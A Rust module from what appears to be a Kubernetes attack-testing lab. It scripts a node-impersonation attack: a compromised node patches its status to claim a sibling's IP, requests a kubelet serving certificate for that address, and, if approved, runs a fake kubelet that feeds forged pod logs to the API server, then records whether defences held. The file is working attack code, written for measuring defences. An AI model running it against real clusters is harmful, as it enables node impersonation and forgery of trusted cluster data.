//! The attack on `apiserver-to-kubelet.approval`: root on node-1 asks for a certificate with its sibling's
//! address, which then takes the sibling's place before an API server that checks certificates.

use std::time::{Duration, Instant};

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};

use super::components_to_apiserver::words;
use super::node_to_apiserver::{ask, two};
use super::question::Question;
use super::scene::{Account, Node, Scene};
use super::{AttackError, Evidence, Finding, Wishes, answered};
use crate::lab::plan::endpoint;

const REQUESTS: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
/// How long an approver may take that approves, and one that says why not.
const PATIENCE: Duration = Duration::from_secs(45);
/// Where nobody approves there is nothing to wait for.
const NOBODY: Duration = Duration::from_secs(2);

/// A sibling's address on node-1's own request, after an edit of its own `status.addresses`.
pub fn approval(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let (node, sibling) = two(scene)?;
    let status = format!("/api/v1/nodes/{}/status", node.name);
    let before = addresses(scene, &node);
    let claim = claim(scene, &node, &sibling, &status)?;
    let outcome = request(scene, &node, &sibling, claim);
    // The kubelet would put its addresses right as well, with its next report.
    if let Some(before) = before {
        scene.api_patch(&status, &json!({"status": {"addresses": before}}))?;
    }
    outcome
}

fn addresses(scene: &Scene, node: &Node) -> Option<Value> {
    let tree = scene.api_json(&format!("/api/v1/nodes/{}", node.name))?;
    Some(tree["status"]["addresses"].clone())
}

/// Says of oneself, with one's own credential, to be where the sibling is.
fn claim(scene: &Scene, node: &Node, sibling: &Node, status: &str) -> Result<Evidence, AttackError> {
    let all = json!([
        {"type": "InternalIP", "address": node.address}, {"type": "InternalIP", "address": sibling.address},
        {"type": "Hostname", "address": node.name},
    ]);
    let question = Question::get(format!("{}{status}", endpoint()))
        .method("PATCH")
        .json("application/merge-patch+json", &json!({"status": {"addresses": all}}));
    let answer = ask(scene, node, question)?;
    Ok(answered(&format!("PATCH {status} with the sibling's address, as {}", node.name), &answer))
}

fn request(scene: &mut Scene, node: &Node, sibling: &Node, claim: Evidence) -> Result<Finding, AttackError> {
    let name = scene.marker.clone();
    let address = sibling.address.parse().map_err(|_| AttackError::Scene("a node without address".into()))?;
    let cn = format!("system:node:{}", node.name);
    let made = crate::pki::request(&cn, &["system:nodes"], &[&node.name], &[address]);
    let (csr, key) = made.map_err(|error| AttackError::Scene(format!("make a request: {error}")))?;
    let object = json!({
        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {
            "request": BASE64_STANDARD.encode(csr), "signerName": "kubernetes.io/kubelet-serving",
            "usages": ["digital signature", "server auth"],
        },
    });
    let since = scene.log_length("csr-approver", "control");
    let question = Question::get(format!("{}{REQUESTS}", endpoint())).method("POST");
    let posted = ask(scene, node, question.json("application/json", &object))?;
    let mut evidence = vec![claim];
    evidence.push(answered(&format!("POST a request of {} for {}", node.name, sibling.address), &posted));
    let approvers = scene.plan.roles().any(|role| role.name == "csr-approver");
    let until = Instant::now() + if approvers { PATIENCE } else { NOBODY };
    let path = format!("{REQUESTS}/{name}");
    let finding = loop {
        let tree = scene.api_json(&path).unwrap_or_default();
        if let Some(certificate) = tree["status"]["certificate"].as_str() {
            let pem = BASE64_STANDARD.decode(certificate).unwrap_or_default();
            let identity = format!("{}{key}", String::from_utf8_lossy(&pem));
            break take_place(scene, sibling, &identity, evidence)?;
        }
        let words = format!("csr=\"{name}\"");
        if let Some(line) = scene.log_line_since("csr-approver", "control", since, &words)
            && line.contains("left pending")
        {
            let why = line.split("reason=").nth(1).unwrap_or(&line).to_owned();
            let what = "csr-approver@control says".into();
            evidence.push(Evidence { kind: "log", what, sample: line });
            break Finding::defeated(format!("the request stays pending: {why}"), evidence);
        }
        if Instant::now() >= until {
            let pending = tree["metadata"]["name"] == name.as_str() && tree["status"]["conditions"].is_null();
            break match (approvers, pending) {
                (false, true) => Finding::defeated(
                    "the request stays pending: in this lab nobody approves kubelets' serving certificates",
                    evidence,
                ),
                _ => Finding::inconclusive("neither a certificate nor a word of the approver", evidence),
            };
        }
        std::thread::sleep(Duration::from_millis(30));
    };
    scene.api_delete(&path);
    Ok(finding)
}

/// Answers `kubectl logs` in the sibling's place, with a certificate that can be checked.
fn take_place(
    scene: &mut Scene,
    sibling: &Node,
    identity: &str,
    mut evidence: Vec<Evidence>,
) -> Result<Finding, AttackError> {
    evidence.push(Evidence {
        kind: "object",
        what: "the certificate that was issued".into(),
        sample: crate::pki::Facts::from_pem(identity.as_bytes()).map_or_else(
            |error| error.to_string(),
            |facts| {
                format!("CN={} for {:?} {:?}, signed by {}", facts.cn, facts.dns, facts.ips, facts.issuer_cn)
            },
        ),
    });
    let pod = scene.pod(
        Some(&sibling.name),
        Account::Nobody,
        &words(&["sh", "-c", "echo real; exec sleep 600"]),
    )?;
    let meta = pod.metadata;
    let (namespace, name) = (meta.namespace.unwrap_or_default(), meta.name.unwrap_or_default());
    let forged = format!("forged with a certificate: {}", scene.marker);
    let command =
        words(&["attacker", "fake-kubelet", &format!("{}:10250", sibling.address), "--log", &forged]);
    let env = vec![("ATTACKER_IDENTITY".to_owned(), identity.to_owned())];
    let attacker = scene.start("wire", command, env)?;
    if attacker.event("ready").is_none() {
        return Ok(Finding::inconclusive("the fake kubelet did not start", evidence));
    }
    let answer = scene.api_get(&format!("/api/v1/namespaces/{namespace}/pods/{name}/log"));
    drop(attacker.finish());
    evidence.push(answered(&format!("kubectl -n {namespace} logs {name}"), &answer));
    let forged = match answer.found {
        true => "with it the attacker's own log passed for the pod's, although the CA is checked",
        false => "on this lab's road to the kubelets nobody on the wire is asked for it",
    };
    let what = format!("a node was given a certificate for its sibling's address; {forged}");
    Ok(Finding::compromised(what, evidence))
}
